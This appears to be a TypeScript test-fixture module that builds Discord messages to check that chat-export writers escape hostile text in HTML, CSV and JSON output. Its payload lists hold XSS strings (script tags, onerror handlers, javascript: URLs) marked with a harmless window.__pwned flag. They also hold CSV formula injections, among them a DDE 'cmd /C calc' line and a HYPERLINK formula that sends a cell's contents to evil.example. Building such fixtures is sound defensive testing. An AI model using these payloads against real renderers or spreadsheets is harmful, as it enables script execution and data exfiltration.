// Messages as Discord's REST API returns them, built here for the format tests: every feature the
// writers render (replies, edits, pins, attachments, embeds, stickers, reactions, mentions, system
// messages, Unicode) and the hostile texts of test/support and test/helpers, plus payloads aimed at
// HTML, CSV and JSON readers. Each hostile payload that runs sets `window.__pwned`.
import type { APIMessage, APIUser } from "discord-api-types/v10";
import type {
  ExportContext,
  ExportWriter,
  WriterState,
} from "../../../../src/workflows/export/format/export-writer.ts";
import { HOSTILE_MARKERS, HOSTILE_SITE, HOSTILE_TITLE } from "../../../support/hostile-pages.ts";

export const PWNED = "__pwned";

const SCRIPT_PAYLOADS = [
  `<script>window.${PWNED}=1</script>`,
  `<img src=x onerror="window.${PWNED}=2">`,
  `"><svg onload=window.${PWNED}=3>`,
  `</div></main><script>window.${PWNED}=4</script>`,
  `<iframe srcdoc="<script>parent.${PWNED}=5</script>"></iframe>`,
  `[click me](javascript:window.${PWNED}=6)`,
  `[x](https://ok.example/" onmouseover="window.${PWNED}=7)`,
  "`<script>window.__pwned=8</script>`",
  `\`\`\`html\n<script>window.${PWNED}=9</script>\n\`\`\``,
  `**<b onclick=window.${PWNED}=10>bold</b>**`,
  `<https://ok.example/"><script>window.${PWNED}=11</script>>`,
  `<!-- ]]> --><style>body{display:none}</style>`,
  `<t:99999999999999999:f> <t:abc:f> <:x:1> <a:name:notdigits>`,
];

const SPREADSHEET_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  'quotes "inside", commas, and\nnew lines\r\nand CRLF',
];

const PAGE_TEXTS = Object.values(HOSTILE_SITE).flatMap((page) =>
  page.kind === "html"
    ? page.body.map((block) => ("text" in block ? block.text : "p" in block ? block.p : ""))
    : [],
);

/** Hostile texts with no markdown in them: an HTML reader must see them character for character. */
export const VERBATIM_TEXTS: readonly string[] = [
  ...SCRIPT_PAYLOADS.slice(0, 5),
  ...SPREADSHEET_PAYLOADS.slice(0, 6),
  "RTL \u202egnp.exe\u202c and zero\u200bwidth",
];

/** Texts whose rendering must stay text in every format. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPT_PAYLOADS,
  ...SPREADSHEET_PAYLOADS,
  HOSTILE_TITLE,
  ...HOSTILE_MARKERS,
  ...PAGE_TEXTS.filter((text) => text.length > 0),
  "@everyone @here <@&42> <#99> <@123456789012345678>",
  ...VERBATIM_TEXTS.slice(-1),
  "lone surrogate \ud800 end",
  "*".repeat(3000),
  "<".repeat(2000),
  "[".repeat(500) + "](".repeat(500),
  "**a ".repeat(600),
  "> ".repeat(300),
  `${"_a".repeat(800)} ${"||".repeat(300)}`,
];

export function user(id: string, username: string, extra: Partial<APIUser> = {}): APIUser {
  return { id, username, discriminator: "0", global_name: null, avatar: null, ...extra };
}

export const ALICE = user("100000000000000001", "alice", {
  global_name: "Alice A.",
  avatar: "abc",
});
export const BOB = user("100000000000000002", "bob", { bot: true });
export const CAROL = user("100000000000000003", "carol<script>", { discriminator: "1234" });

const START = Date.parse("2024-03-01T12:00:00.000Z");

/** A snowflake that increases with `index` (timestamps one minute apart). */
export function fixtureId(index: number): string {
  return ((BigInt(START + index * 60_000 - 1_420_070_400_000) << 22n) + BigInt(index)).toString();
}

function base(index: number, author: APIUser, content: string): APIMessage {
  return {
    id: fixtureId(index),
    type: 0,
    channel_id: "200000000000000001",
    author,
    content,
    timestamp: new Date(START + index * 60_000).toISOString().replace("Z", "+00:00"),
    edited_timestamp: null,
    tts: false,
    mention_everyone: false,
    mentions: [],
    mention_roles: [],
    attachments: [],
    embeds: [],
    pinned: false,
  };
}

/** Messages with every feature, one per kind, then the hostile corpus; oldest first. */
export function featureMessages(): APIMessage[] {
  const list: APIMessage[] = [];
  const add = (author: APIUser, content: string, extra: Partial<APIMessage> = {}) => {
    const message = { ...base(list.length, author, content), ...extra };
    list.push(message);
    return message;
  };
  const first = add(ALICE, "Hello **world**, see <@100000000000000002> in <#200000000000000009>", {
    mentions: [BOB],
  });
  add(
    ALICE,
    "# Heading\n-# subtext\n> quoted\n- item one\n  - nested\n1. first\n||spoiler|| ~~gone~~ __under__ *it* `code`",
  );
  add(BOB, "replying", {
    type: 19,
    message_reference: { type: 0, message_id: first.id, channel_id: first.channel_id },
    referenced_message: first,
    edited_timestamp: "2024-03-01T13:00:00.123000+00:00",
    pinned: true,
  });
  add(CAROL, "files", {
    attachments: [
      {
        id: "300000000000000001",
        filename: "cat.png",
        size: 2048,
        url: "https://cdn.discordapp.com/attachments/1/2/cat.png",
        proxy_url: "https://media.discordapp.net/1/2/cat.png",
      },
      {
        id: "300000000000000002",
        filename: 'notes, "v2".txt',
        size: 12,
        url: "https://cdn.discordapp.com/attachments/1/3/notes.txt",
        proxy_url: "https://media.discordapp.net/1/3/notes.txt",
      },
    ],
    reactions: [
      {
        emoji: { id: null, name: "👍" },
        count: 3,
        count_details: { burst: 0, normal: 3 },
        me: false,
        me_burst: false,
        burst_colors: [],
      },
      {
        emoji: { id: "400000000000000001", name: "party", animated: true },
        count: 1,
        count_details: { burst: 0, normal: 1 },
        me: false,
        me_burst: false,
        burst_colors: [],
      },
    ],
    sticker_items: [{ id: "500000000000000001", name: "Wave", format_type: 1 }],
  });
  add(BOB, "", {
    embeds: [
      {
        title: "Embed **title**",
        url: "https://example.com/page",
        description:
          "Description with <:blob:600000000000000001> and [a link](https://example.com)",
        color: 0x5865f2,
        timestamp: "2024-03-01T12:00:00+00:00",
        author: {
          name: "Author",
          url: "https://example.com/author",
          icon_url: "https://example.com/a.png",
        },
        fields: [
          { name: "Field", value: "Value", inline: true },
          { name: "Other", value: "`x`", inline: false },
        ],
        image: { url: "https://example.com/image.png", width: 10, height: 20 },
        thumbnail: { url: "https://example.com/thumb.png" },
        footer: { text: "Footer", icon_url: "https://example.com/f.png" },
      },
    ],
  });
  add(ALICE, "", { type: 7 });
  add(ALICE, "日本語のメッセージ 🎉 مرحبا", { mentions: [] });
  for (const text of HOSTILE_TEXTS) add(list.length % 2 ? ALICE : CAROL, text);
  add(CAROL, "embed with hostile text", {
    embeds: [
      {
        title: SCRIPT_PAYLOADS[0],
        description: SCRIPT_PAYLOADS[1],
        url: `javascript:window.${PWNED}=12`,
        fields: [{ name: SCRIPT_PAYLOADS[2] ?? "", value: SCRIPT_PAYLOADS[3] ?? "" }],
        footer: { text: SCRIPT_PAYLOADS[4] ?? "" },
        image: { url: `javascript:window.${PWNED}=13` },
      },
    ],
    attachments: [
      {
        id: "300000000000000003",
        filename: `"><img src=x onerror=window.${PWNED}=14>.png`,
        size: 1,
        url: `javascript:window.${PWNED}=15`,
        proxy_url: "x",
      },
    ],
  });
  return list;
}

/** `count` ordinary messages by a few authors, some close enough in time to be grouped. */
export function plainMessages(count: number): APIMessage[] {
  const authors = [ALICE, BOB, CAROL];
  return Array.from({ length: count }, (_, index) =>
    base(index, authors[Math.floor(index / 3) % 3] ?? ALICE, `message ${index} <b>${index}</b>`),
  );
}

export const CONTEXT: ExportContext = {
  guild: {
    id: "700000000000000001",
    name: "Test <Guild> & co",
    iconUrl: "https://cdn.discordapp.com/icons/7/abc.png",
  },
  channel: {
    id: "200000000000000001",
    name: "general",
    type: 0,
    categoryName: 'Text "Channels"',
    topic: "Topic **bold** <script>x</script>",
    categoryId: "800000000000000001",
  },
  dateRange: { after: "2024-01-01T00:00:00.000Z", before: null },
  exportedAt: "2024-03-02T00:00:00.000Z",
  filter: "from:alice <script>",
  channelNames: { "200000000000000009": "random" },
};

/** A whole file from one writer, its messages handed over in batches of the given sizes. */
export function writeFile(
  writer: ExportWriter,
  messages: readonly APIMessage[],
  batchSizes: readonly number[] = [messages.length],
  context: ExportContext = CONTEXT,
): string {
  let text = writer.begin(context);
  let state: WriterState | null = null;
  let at = 0;
  for (let i = 0; at < messages.length; i++) {
    const size = Math.max(1, batchSizes[i % batchSizes.length] ?? 1);
    const batch = writer.write(messages.slice(at, at + size), context, state);
    // The state crosses stage invocations as JSON.
    state = JSON.parse(JSON.stringify(batch.state)) as WriterState;
    text += batch.text;
    at += size;
  }
  return text + writer.end(context, state, messages.length);
}
